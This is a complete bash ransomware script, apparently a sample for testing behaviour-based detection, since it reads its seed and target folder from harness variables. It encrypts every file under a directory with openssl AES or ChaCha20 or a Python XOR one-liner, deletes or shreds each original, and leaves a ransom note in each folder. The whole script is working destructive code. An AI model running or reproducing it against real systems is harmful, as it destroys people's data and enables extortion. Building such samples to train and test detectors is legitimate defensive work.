#!/bin/bash
# family: ransomware
# needs: docs
# actors: bash|sh|dash
# Ransomware as a shell script: one encryptor process and one delete per file (openssl enc with AES or ChaCha20, or
# a Python one-liner, then rm or shred -u; not gpg, whose agent outlives the run), a ransom note beside each file. No single process does both halves; the loop's
# shell is the actor (its children look like any openssl or rm run and are bystanders).
set -u
RANDOM=$PG_SEED
exts=(.locked .enc .crypt ".$RANDOM")
ext=${exts[$((RANDOM % 4))]}
tool=$((RANDOM % 3))
cipher=-aes-256-cbc
[ $tool -eq 1 ] && cipher=-chacha20
key=$RANDOM$RANDOM
find "$PG_DATA" -type f | while read -r f; do
  case $tool in
    0|1) openssl enc $cipher -pbkdf2 -pass "pass:$key" -in "$f" -out "$f$ext" 2>/dev/null ;;
    2) python3 -c 'import sys; d = open(sys.argv[1], "rb").read(); open(sys.argv[2], "wb").write(bytes(b ^ 0x5a for b in d))' "$f" "$f$ext" ;;
  esac
  if [ $((RANDOM % 3)) -eq 0 ]; then shred -u "$f"; else rm -f "$f"; fi
  echo "Your files are encrypted. Key id $key." > "${f%/*}/README-RESTORE.txt"
done
exit 0
